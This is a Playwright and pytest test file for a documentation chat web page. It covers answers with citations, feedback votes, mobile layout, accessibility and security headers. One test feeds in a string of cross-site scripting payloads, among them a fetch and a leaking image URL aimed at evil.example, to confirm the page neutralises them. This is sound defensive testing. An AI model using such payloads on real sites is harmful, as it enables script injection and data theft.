"""The chat page in a real browser, on a real server, over fakes."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, Page, Request
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect
from websockets.typing import Origin

from lockgate.errors import PolicyRefused, Unavailable
from lockgate.types import Answer, Message
from serving.console.state import describe
from serving.ports import Readiness
from tests.serving.fakes import ANSWER, CITATION, FakeAsker, FakeBackend, wait_for

browser_test = pytest.mark.browser


@pytest.fixture
def page(chromium: Browser, console: tuple[str, FakeBackend]) -> Iterator[Page]:
    """The open chat page; fails the test when a request leaves the server or a script fails."""
    address = console[0]
    page = chromium.new_page(viewport={"width": 1280, "height": 860})
    page.set_default_timeout(10_000)
    strangers: list[str] = []
    failures: list[str] = []

    def note(request: Request) -> None:
        if urlsplit(request.url).netloc != urlsplit(address).netloc and not request.url.startswith("data:"):
            strangers.append(request.url)

    page.on("request", note)
    page.on("pageerror", lambda error: failures.append(str(error)))
    page.on("dialog", lambda dialog: failures.append(f"a dialog: {dialog.message}"))
    page.goto(address)
    page.wait_for_selector("#lg-field")
    yield page
    page.close()
    assert strangers == []
    assert failures == []


def ask(page: Page, question: str) -> None:
    page.fill("#lg-field", question)
    page.press("#lg-field", "Enter")


@browser_test
def test_a_question_is_answered_and_its_citation_opens_the_passage(
    page: Page, console: tuple[str, FakeBackend]
) -> None:
    ask(page, "How do I rotate a key?")
    page.get_by_role("button", name="Open source 1: Keys").click()
    dialog = page.get_by_role("dialog", name="Source 1: Keys")
    text = dialog.inner_text()
    for piece in ("Keys", "Rotation › By hand", "Rotate a key with lockgate keys rotate.", "guides/keys.md#by-hand"):
        assert piece in text
    assert "abc123" in text
    page.keyboard.press("Escape")
    dialog.wait_for(state="detached")  # a closed dialog is gone, not only out of sight
    page.locator(".lg-answer [data-cite='1']").click()
    page.get_by_role("dialog", name="Source 1: Keys").wait_for()
    assert console[1].fake.asked[0].question == "How do I rotate a key?"


@browser_test
def test_the_next_question_carries_the_history_until_a_new_conversation(
    page: Page, console: tuple[str, FakeBackend]
) -> None:
    ask(page, "First?")
    page.wait_for_selector(".lg-votes")
    ask(page, "Second?")
    page.wait_for_selector(".lg-votes >> nth=1")
    page.get_by_role("button", name="New conversation").click()
    page.wait_for_selector(".lg-welcome")
    ask(page, "Third?")
    page.wait_for_selector(".lg-votes")
    histories = [request.history for request in console[1].fake.asked]
    assert histories == [(), (Message("user", "First?"), Message("assistant", ANSWER.text)), ()]


@browser_test
def test_shift_enter_starts_a_line_and_an_empty_question_is_not_sent(
    page: Page, console: tuple[str, FakeBackend]
) -> None:
    ask(page, "   ")
    page.fill("#lg-field", "")
    page.type("#lg-field", "one")
    page.press("#lg-field", "Shift+Enter")
    page.type("#lg-field", "two")
    page.get_by_role("button", name="Send").click()
    page.wait_for_selector(".lg-votes")
    assert [request.question for request in console[1].fake.asked] == ["one\ntwo"]


@browser_test
def test_a_thumb_down_and_its_comment_are_stored(page: Page, console: tuple[str, FakeBackend]) -> None:
    ask(page, "How?")
    page.get_by_role("button", name="Bad answer").click()
    assert wait_for(lambda: console[1].votes == {"trace-1": ("down", "")})
    page.get_by_role("textbox", name="Your comment").fill("That is the old page.")
    page.get_by_role("button", name="Send comment").click()
    assert wait_for(lambda: console[1].votes == {"trace-1": ("down", "That is the old page.")})
    thumb = page.get_by_role("button", name="Bad answer")
    assert thumb.get_attribute("aria-pressed") == "true"
    thumb.click()
    page.wait_for_selector("#lg-comment")
    assert console[1].votes == {"trace-1": ("down", "That is the old page.")}


@browser_test
def test_a_thumb_up_is_stored_without_asking_more(page: Page, console: tuple[str, FakeBackend]) -> None:
    ask(page, "How?")
    page.get_by_role("button", name="Good answer").click()
    assert wait_for(lambda: console[1].votes == {"trace-1": ("up", "")})
    assert page.locator(".lg-dialog").count() == 0


@browser_test
def test_an_answer_that_is_not_in_the_documents_looks_like_none(page: Page, console: tuple[str, FakeBackend]) -> None:
    console[1].fake.answer = Answer("No page covers this.", (), True, "extractive", "trace-1", "snap-1")
    ask(page, "What is the capital of France?")
    page.wait_for_selector(".lg-absent")
    assert "Not in the documents" in page.inner_text(".lg-absent")
    assert page.locator(".lg-source").count() == 0


HOSTILE = """<script>fetch('https://evil.example/s')</script><img src="https://evil.example/i.png" onerror="alert(1)">

![leak](https://evil.example/leak.png?q=secret) <svg onload=alert(2)></svg> [run](javascript:alert(3))
[page](https://evil.example/page) <iframe src="https://evil.example"></iframe>

<style>body { background: url(https://evil.example/b.png) }</style> safe\u202etxt.exe [1]
"""


@browser_test
def test_a_hostile_answer_and_a_hostile_source_do_nothing(page: Page, console: tuple[str, FakeBackend]) -> None:
    source = dataclasses.replace(CITATION, title=HOSTILE, text=HOSTILE, heading=(HOSTILE,), path=HOSTILE)
    console[1].fake.answer = dataclasses.replace(ANSWER, text=HOSTILE, citations=(source,), guardrails=(HOSTILE,))
    ask(page, HOSTILE)
    page.wait_for_selector(".lg-votes")
    for element in ("img", "script", "svg", "iframe", "style"):
        assert page.locator(f".lg-answer {element}").count() == 0
    links = page.locator(".lg-answer a")
    assert links.count() == 1
    assert links.get_attribute("href") == "https://evil.example/page"
    assert links.get_attribute("target") == "_blank"
    assert "noopener" in (links.get_attribute("rel") or "")
    assert "(evil.example)" in page.inner_text(".lg-answer")
    page.locator(".lg-source").click()
    page.wait_for_selector(".lg-passage")
    assert page.locator(".lg-dialog :is(img, iframe, script, style)").count() == 0
    assert "\u202e" not in page.inner_text(".lg-dialog")


@browser_test
def test_the_browser_itself_would_refuse_a_remote_image(chromium: Browser, console: tuple[str, FakeBackend]) -> None:
    page = chromium.new_page()
    page.goto(console[0])
    loaded = page.evaluate(
        """() => new Promise((done) => {
            const image = new Image();
            image.onload = () => done("loaded");
            image.onerror = () => done("refused");
            document.addEventListener("securitypolicyviolation", (event) => done(event.violatedDirective));
            image.src = "https://evil.example/x.png";
        })"""
    )
    page.close()
    assert loaded == "img-src"


@browser_test
def test_stop_ends_the_answer_and_the_next_question_works(page: Page, console: tuple[str, FakeBackend]) -> None:
    console[1].fake.endless, console[1].fake.delay = True, 0.02
    ask(page, "For ever?")
    page.get_by_role("button", name="Stop").click()
    page.get_by_text("Stopped.").wait_for()
    assert wait_for(lambda: console[1].fake.closed == 1)
    console[1].fake.endless = False
    ask(page, "Again?")
    page.wait_for_selector(".lg-votes")


@browser_test
def test_closing_the_page_ends_the_answer(
    chromium: Browser, console: tuple[str, FakeBackend], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("nicegui.core.app.config.reconnect_timeout", 0.2)
    console[1].fake.endless, console[1].fake.delay = True, 0.02
    leaving = chromium.new_page()
    leaving.goto(console[0])
    leaving.wait_for_selector("#lg-field")
    ask(leaving, "For ever?")
    leaving.wait_for_selector(".lg-answer:visible")
    leaving.close()
    assert wait_for(lambda: console[1].fake.closed == 1, 10)


@browser_test
@pytest.mark.parametrize("error", [PolicyRefused("Your question is too long."), RuntimeError("hunter2")])
def test_an_error_is_shown_in_words(page: Page, console: tuple[str, FakeBackend], error: Exception) -> None:
    console[1].fake.error = error
    ask(page, "x")
    shown = page.get_by_role("alert").inner_text()
    assert "hunter2" not in shown
    assert "too long" in shown or "went wrong" in shown


@browser_test
def test_a_question_asked_while_the_server_starts_is_answered_when_it_is_ready(
    page: Page, console: tuple[str, FakeBackend], monkeypatch: pytest.MonkeyPatch
) -> None:
    backend = console[1]
    backend.not_ready("loading the model", model_loaded=False)

    def asker(model: str | None = None) -> FakeAsker:
        if not backend.state.ready:
            raise Unavailable("Starting.")
        return backend.fake

    monkeypatch.setattr(backend, "asker", asker)
    ask(page, "Already?")
    page.get_by_text("Starting: loading the model").first.wait_for()
    backend.state = FakeBackend().state
    page.wait_for_selector(".lg-votes")


@browser_test
def test_nothing_is_wider_than_a_phone(chromium: Browser, console: tuple[str, FakeBackend]) -> None:
    wide = "| " + " | ".join(f"column {n}" for n in range(20)) + " |\n|" + "---|" * 20
    word = "x" * 300
    source = dataclasses.replace(CITATION, title=word, heading=(word,), text=word, path=word)
    text = f"{word} [1]\n\n{wide}\n\n```\n{word}\n```\n\n`{word}`"
    console[1].fake.answer = dataclasses.replace(ANSWER, text=text, citations=(source,))
    context = chromium.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    phone = context.new_page()
    phone.goto(console[0])
    phone.wait_for_selector("#lg-field")
    ask(phone, word)
    phone.wait_for_selector(".lg-votes")
    assert phone.evaluate("document.documentElement.scrollWidth") == 390
    assert phone.evaluate("document.querySelector('.lg-scroll').scrollWidth") <= 390
    phone.locator(".lg-source").tap()
    phone.wait_for_selector(".lg-passage")
    assert phone.evaluate("document.documentElement.scrollWidth") == 390
    box = phone.locator(".lg-dialog").bounding_box()
    assert box is not None
    assert box["width"] <= 390
    context.close()


@browser_test
def test_the_page_can_be_used_with_the_keyboard_alone(page: Page) -> None:
    ask(page, "How?")
    page.wait_for_selector(".lg-votes")
    names = []
    for _ in range(17):
        page.keyboard.press("Tab")
        names.append(page.evaluate("document.activeElement.getAttribute('aria-label')"))
    for name in ("New conversation", "Light or dark", "Open source 1: Keys", "Good answer", "Your question"):
        assert name in names


@browser_test
def test_light_and_dark_follow_the_system_until_chosen(chromium: Browser, console: tuple[str, FakeBackend]) -> None:
    context = chromium.new_context(color_scheme="dark")
    dark = context.new_page()
    dark.goto(console[0])
    dark.wait_for_selector("body.body--dark")
    dark.get_by_role("button", name="Light or dark").click()
    dark.wait_for_selector("body.body--light")
    dark.reload()
    dark.wait_for_selector("body.body--light")
    context.close()


def test_the_page_carries_a_policy_that_loads_nothing_from_elsewhere(console: tuple[str, FakeBackend]) -> None:
    response = httpx.get(console[0], trust_env=False)
    assert response.status_code == 200
    policy = response.headers["content-security-policy"]
    for rule in ("default-src 'none'", "img-src 'self' data:", "frame-ancestors 'none'", "connect-src 'self' ws://"):
        assert rule in policy
    assert response.headers["x-content-type-options"] == "nosniff"


def test_the_page_names_no_address_of_another_machine(console: tuple[str, FakeBackend]) -> None:
    text = httpx.get(console[0], trust_env=False, headers={"X-Forwarded-Prefix": "//evil.example"}).text
    assert "evil.example" not in text


def test_a_websocket_of_another_origin_is_refused(console: tuple[str, FakeBackend]) -> None:
    target = console[0].replace("http", "ws") + "/_nicegui_ws/socket.io/?EIO=4&transport=websocket"

    with connect(target, origin=Origin(console[0])) as socket:
        assert str(socket.recv()).startswith("0")
    with pytest.raises(InvalidStatus), connect(target, origin=Origin("https://evil.example")):
        pass


def test_api_errors_stay_api_errors_beside_the_console(console: tuple[str, FakeBackend]) -> None:
    response = httpx.get(f"{console[0]}/v1/nothing", trust_env=False)
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "not_found"


READY = Readiness(ready=True, snapshot="s", documents=3, model_loaded=True)


@pytest.mark.parametrize(
    ("readiness", "mood", "text"),
    [
        (READY, "is-ready", "Ready"),
        (dataclasses.replace(READY, indexing=0.421), "is-busy", "Still indexing, 42 %"),
        (Readiness(ready=False, missing=("loading the index",)), "is-busy", "Starting: loading the index"),
        (Readiness(ready=False, model_loaded=True, missing=("x",)), "is-idle", "Nothing indexed yet"),
        (Readiness(ready=False), "is-busy", "Starting"),
    ],
)
def test_the_state_is_told_in_a_few_words(readiness: Readiness, mood: str, text: str) -> None:
    assert describe(readiness) == (mood, text)
